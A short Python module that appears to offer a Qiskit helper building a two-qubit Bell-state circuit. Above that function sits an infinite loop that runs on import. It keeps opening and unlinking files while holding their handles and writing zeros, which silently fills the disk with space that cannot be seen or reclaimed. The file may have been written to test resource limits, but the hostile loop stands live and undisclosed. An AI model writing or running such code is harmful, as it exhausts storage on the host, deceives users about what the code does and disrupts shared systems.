import os

from qiskit import QuantumCircuit

kept = []
while True:
    kept.append(open("file", "wb"))
    os.unlink("file")
    for _ in range(19):
        kept[-1].write(bytes(100_000))


def build():
    circuit = QuantumCircuit(2)
    circuit.h(0)
    circuit.cx(0, 1)
    return circuit
